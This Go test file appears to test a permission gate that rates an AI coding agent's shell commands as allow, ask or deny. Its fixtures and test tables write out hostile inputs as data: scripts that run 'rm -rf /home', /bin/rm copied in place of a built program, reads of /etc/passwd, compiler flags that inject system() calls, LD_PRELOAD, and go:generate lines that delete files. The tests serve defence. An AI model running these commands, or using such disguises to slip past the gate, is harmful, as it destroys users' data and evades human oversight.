package planted_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fencepost/fencepost/internal/app/audit"
	"github.com/fencepost/fencepost/internal/fact"
	"github.com/fencepost/fencepost/internal/test/testkit/gatetest"
)

// builtProject is a project that has been built, and one in which somebody has put other things
// where builds put programs.
func builtProject(t *testing.T) *gatetest.World {
	t.Helper()
	s := gatetest.WithHelper(t, gatetest.Recommended)
	elf, macho := "\x7fELF\x02\x01\x01\x00", "\xcf\xfa\xed\xfe\x07\x00\x00\x01"
	gatetest.Files{
		"go.mod": "module x\n", "src/a.c": "int main(void) { return 0; }\n", "src/a.rs": "fn main() {}\n",
		"src/changed.rs": "fn main() {}\n",
		"data/a.json":    "{}\n", "bin/elf": elf, "bin/macho": macho, "build/elf": elf, "server": elf,
		"cmd/x/x": elf, "target/debug/elf": elf, "bin/kubectl": elf, "bin/deploy": elf,
		"bin/tcl": "#!/usr/bin/env tclsh\nexec rm -rf /home\n", "bin/garbage": "\x00\x01\x02",
		"build/mk": "#!/usr/bin/make -f\nall:\n\trm -rf /home\n",
		"bin/sh":   "#!/bin/sh\nrm -rf ~/x\n", "bin/known": "#!/bin/sh\nls src\n",
		"bin/unknown": "#!/bin/sh\nfrobnicate\n", "build/py": "import frob\n",
	}.Write(t, s.Project)
	for _, name := range []string{"bin", "build", "target/debug"} {
		list, err := os.ReadDir(filepath.Join(s.Project, name))
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range list {
			if err := os.Chmod(filepath.Join(s.Project, name, e.Name()), 0o755); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, to := range map[string]string{"bin/link": "/bin/true", "target/debug/link": "/bin/true"} {
		s.Link(t, to, name)
	}
	s.NoRepository(t)
	s.Git(t, "init", "-q")
	s.Git(t, "add", "go.mod", "src")
	s.Git(t, "commit", "-q", "-m", "x")
	gatetest.Files{"src/own.c": "int main(void) { return 1; }\n",
		"src/changed.rs": "fn main() { x() }\n"}.Write(t,
		s.Project)
	return s
}

// TestBuilt: a program that was built of the project passes, and nothing else that lies there.
func TestBuilt(t *testing.T) {
	t.Parallel()
	s := builtProject(t)
	s.Rows(t, gatetest.Table{
		{"./bin/elf --version", "allow"},
		{"bin/macho list --json | jq length", "allow"},
		{`bin/elf --url=http://localhost:8080/x "hello world" --glob '*.txt' --in=data/a.json -`, "allow"},
		{"for n in 1 10; do ./bin/elf bench -n $n | tail -1; done", "allow"},
		{"cat data/a.json | bin/app --stdin", "allow"},
		{"cat data/a.json | bin/elf --stdin", "ask"}, // it may be one that runs what it reads
		{"GODEBUG=gctrace=1 ./bin/elf -once", "allow"},
		{"./server --port 8080 > tmp/server.log 2>&1 &", "allow"},
		{"cmd/x/x --help", "allow"},
		{"target/debug/elf run data/a.json", "allow"},
		{"./bin/app --version", "allow"}, // there is none yet
		{"./build/tests/unit --gtest_filter='Parser.*'", "allow"},
		{"bin/known", "allow"},
		{"go build -o bin/app . && bin/app --help", "allow"},
		{"go build -o /tmp/app ./cmd/x && /tmp/app --help", "allow"},
		{"cc src/a.c -o tmp/t && ./tmp/t", "allow"},
		{"rustc src/a.rs -o tmp/t && tmp/t", "allow"},
		{"gcc -Wall src/a.c && ./a.out", "allow"},
		{"make && ./prog -x", "allow"},
		{"hyperfine './bin/elf data/a.json'", "allow"},

		// What lies there is not what a compiler makes.
		{"bin/tcl", "ask"}, {"build/mk", "ask"}, {"bin/garbage", "ask"}, {"build/py", "ask"},
		{"bin/unknown", "ask"}, {"bin/sh", "deny"}, {"bin/link", "ask"}, {"target/debug/link", "ask"},
		{"bin/kubectl get pods", "ask"}, // a program that somebody has put there
		{"bin/deploy", "ask"},
		{"tmp/prog", "ask"}, {"./prog", "ask"}, {"../x/build/prog", "ask"}, {"~/bin/prog", "ask"},
		// The same call puts it there otherwise.
		{"cp /bin/rm bin/app && bin/app -rf src", "ask"},
		{"cp /bin/rm build/elf && build/elf -rf src", "ask"},
		{"cat /bin/sh > bin/app; chmod +x bin/app; bin/app x", "ask"},
		{"mv data/a.json bin/app; bin/app", "ask"},
		{"cc src/a.c -o build/q && cp /bin/rm build/q && build/q -rf src", "ask"},
		{"cp bin/tcl build/q; cc src/a.c -o build/q; build/q -rf src", "ask"},
		{"git checkout other && bin/app", "ask"},
		{"tar xf data/a.tar && bin/app", "ask"},
		{"cc -MD -MF build/q -MT 'rm -rf ~ #' -c src/a.c && build/q", "ask"},
		// The compiler gets what is not the project's, or what the call writes.
		{"cc /var/lib/x.c -o build/q && build/q", "ask"},
		// The agent may have written it, and nobody has seen it.
		{"cc src/own.c -o tmp/q && tmp/q", "ask"},
		{"gcc -o q src/own.c && ./q", "ask"},
		{"rustc src/changed.rs -o tmp/q && tmp/q", "ask"},
		{"cp ~/x.c src/q.c && cc src/q.c -o tmp/q && tmp/q", "ask"},
		{"cc -fplugin=./x.so src/a.c -o tmp/q && tmp/q", "ask"},
		{"CC=x cc -B ./x src/a.c -o tmp/q && tmp/q", "ask"},
		{"go build -o ~/bin/app . && ~/bin/app", "deny"},
		{"go build -toolexec ./x -o bin/app . && bin/app", "ask"},
		{"gcc -o bin/app -x c - <<< 'int main(){}' && ./bin/app", "ask"},
		{"gcc -o bin/app -x c - <<'X' && ./bin/app\nint main(){}\nX\n", "ask"},
		{"echo 'int main(){}' | gcc -x c -o bin/app - && ./bin/app", "ask"},
		{"gcc -x assembler -o bin/app - <<'X' && ./bin/app\nmain:\nX\n", "ask"},
		{`gcc -o bin/app '-DX=system("touch x")' src/a.c && ./bin/app`, "ask"},
		{`gcc -o bin/app '-Dreturn=system("x");return' src/a.c && ./bin/app`, "ask"},
		{"gcc -o bin/app -include data/x.h src/a.c && ./bin/app", "ask"},
		{"gcc -o bin/app @data/x src/a.c && ./bin/app", "ask"},
		{"gcc -o bin/app -Wl,--wrap=main src/a.c && ./bin/app", "ask"},
		{"gcc -o bin/app -DDEBUG=1 -DNAME=x src/a.c && ./bin/app", "allow"},
		{"gunzip bin/app.gz; ./bin/app -rf wip", "ask"},
		{"xz -d bin/app.xz && ./bin/app -rf wip", "ask"},
		{"mv src build && ./build/app -rf wip", "ask"},
		{"git stash pop; ./bin/app -rf wip", "ask"},
		// What it is told is more than names and values.
		{"bin/elf /etc/passwd", "ask"}, {"bin/elf ../x", "ask"}, {"bin/elf ~/x", "ask"},
		{"bin/elf --in=/etc/passwd", "ask"}, {"bin/elf data/a.json,/etc/passwd", "ask"},
		{"bin/elf 'cat /etc/passwd'", "ask"}, {"bin/elf 'x; y'", "ask"}, {"bin/elf '$(x)'", "ask"},
		{"bin/elf https://host.example/x", "ask"}, {"bin/elf http://localhost@host.example/x", "ask"},
		{"bin/elf http://localhost.host.example/x", "ask"},
		{"bin/elf deploy", "ask"}, {"bin/elf --publish", "ask"}, {`bin/elf "$(cat data/a.json)"`, "ask"},
		{"bin/elf -rf .git", "ask"}, {"bin/elf src/.env", "ask"},
		{"LD_PRELOAD=./x.so bin/elf", "ask"}, {"LD_LIBRARY_PATH=. bin/elf", "ask"},
	})
}

// TestBuiltEarlier: a program that an earlier call of the session has put there, and no compiler,
// is none that was built.
func TestBuiltEarlier(t *testing.T) {
	t.Parallel()
	bash := gatetest.BashCall
	s := builtProject(t)
	for _, tt := range []struct {
		earlier fact.Call
		cmd     string
		want    string
	}{
		{bash("cp /bin/rm bin/elf"), "bin/elf -rf src", "ask"},
		{bash("cp /bin/rm build/elf"), "build/elf -rf src", "ask"},
		{bash("cd bin && cat /bin/sh > elf"), "bin/elf x", "ask"},
		{bash("curl -so bin/elf https://host.example/x"), "./bin/elf", "ask"},
		{bash("mv tmp/x server"), "./server", "ask"},
		{bash("install -m755 ~/x cmd/x/x"), "cmd/x/x", "ask"},
		{bash("tar xf a.tar -C bin elf"), "bin/elf", "ask"},
		{bash(`python3 -c "open('bin/elf','wb').write(x)"`), "bin/elf", "ask"},
		{gatetest.WriteCall("bin/elf"), "bin/elf", "ask"},

		{bash("go build -o bin/elf ./cmd/x"), "bin/elf", "allow"},
		{bash("cc src/a.c -o build/elf"), "build/elf", "allow"},
		{bash("make && cp data/a.json data/b.json"), "bin/elf", "allow"},
		{bash("cp /bin/rm bin/other"), "bin/elf", "allow"},
		{bash("bin/elf --write data/a.json"), "bin/elf", "ask"}, // it may be code that writes it
	} {
		e := audit.Entry{Tool: tt.earlier.Tool, Input: tt.earlier.Input}
		v := s.JudgeAfter(t, e, tt.cmd)
		if v.Decision.String() != tt.want {
			t.Errorf("%s after %s: %s (%s), want %s", tt.cmd, tt.earlier.Input[0].Text, v.Decision,
				strings.TrimSpace(v.Rule+" "+v.Description), tt.want)
		}
	}
}

// TestGoGenerate: what go generate runs stands in the sources, and is judged as if it stood in the
// call.
func TestGoGenerate(t *testing.T) {
	t.Parallel()
	s := gatetest.New(t, gatetest.Recommended)
	s.NoRepository(t)
	gatetest.Files{
		"go.mod": "module x\n", "plain/a.go": "package plain\n",
		"known/a.go":   "package known\n//go:generate echo hi\n//go:generate gofmt -l .\n",
		"deletes/a.go": "package deletes\n//go:generate rm -rf /home/x\n",
		"tool/a.go":    "package tool\n//go:generate stringer -type=Kind\n",
		"pushes/a.go":  "package pushes\n//go:generate git push origin main\n",
		"hides/a.go": "package hides\n//go:generate -command echo rm -rf /home/x\n" +
			"//go:generate echo\n",
		"shell/a.go":  "package shell\n//go:generate sh -c \"rm -rf /home/x\"\n",
		"odd/a.go":    "package odd\n//go:generate echo \"a\\tb\"\n",
		"named/a.go":  "package named\n//go:generate $TOOL x\n",
		"outer/go.go": "package outer\n", "outer/sub/a.go": "package sub\n//go:generate rm -rf /home/x\n",
	}.Write(t, s.Project)
	s.Git(t, "init", "-q")
	s.Git(t, "add", ".")
	s.Git(t, "commit", "-q", "-m", "x")
	gatetest.Files{"new/a.go": "package new\n//go:generate stringer -type=Kind\n"}.Write(t, s.Project)
	s.Rows(t, gatetest.Table{
		{"go generate ./plain", "allow"},
		{"go generate ./known/...", "allow"},
		{"go generate -x known/a.go", "allow"},
		{"go generate ./tool", "allow"}, // the last commit has it
		{"go generate ./outer", "allow"},
		{"go generate ./outer/...", "deny"},
		{"go generate ./deletes", "deny"},
		{"go generate ./...", "deny"},
		{"go generate ./hides", "deny"},
		{"go generate ./shell", "deny"},
		{"go generate ./pushes", "ask"},
		{"go generate ./odd", "allow"}, // the last commit has it
		{"go generate ./named", "allow"},
		{"go generate ./new", "ask"},
		{"go generate -run stringer ./deletes", "deny"},
		{"go generate example.org/x", "ask"},
		{"go generate ../x", "ask"},
		{"go generate ./missing", "ask"},
		{"go generate -exec ./x ./known", "ask"},
		{`go generate "$X"`, "ask"},
		{"TOOL=./x go generate ./named", "ask"},
		{"GOFLAGS=-toolexec=x go generate ./known", "ask"},
		{"printf '//go:generate rm x' > known/b.go && go generate ./known", "ask"},
		{"cp ~/x.go known/a.go; go generate ./known", "ask"},
		{"git checkout other && go generate ./known", "ask"},
	})
}

// TestBuiltDuring: where a program was changed while an earlier call ran, that call has to build and
// to do nothing else.
func TestBuiltDuring(t *testing.T) {
	t.Parallel()
	s := builtProject(t)
	for _, tt := range []struct{ earlier, want string }{
		{"go build ./...", "allow"}, {"make -j4", "allow"}, {"cargo build --release", "allow"},
		{"cmake --build build && ls build", "allow"},
		{"gunzip bin/elf.gz", "ask"}, {"xz -d bin/elf.xz", "ask"}, {"git stash pop", "ask"},
		{"bash cp.sh", "ask"}, {"python3 cp.py", "ask"}, {"mv x bin", "ask"}, {"cp -r x .", "ask"},
		{`python3 -c "import shutil;shutil.copy('/bin/rm','bin/elf')"`, "ask"},
		{`node -e "require('fs').copyFileSync('/bin/rm','bin/elf')"`, "ask"},
		{"make && bash cp.sh", "ask"}, {"ls", "ask"}, {"go build ./... && cp /bin/rm bin/x", "ask"},
	} {
		e := audit.Entry{Time: time.Now().Add(-time.Hour), Tool: "Bash",
			Input: gatetest.BashCall(tt.earlier).Input}
		v := s.JudgeAfter(t, e, "./bin/elf -rf wip")
		if v.Decision.String() != tt.want {
			t.Errorf("after %s: %s, want %s", tt.earlier, v.Decision, tt.want)
		}
	}
}
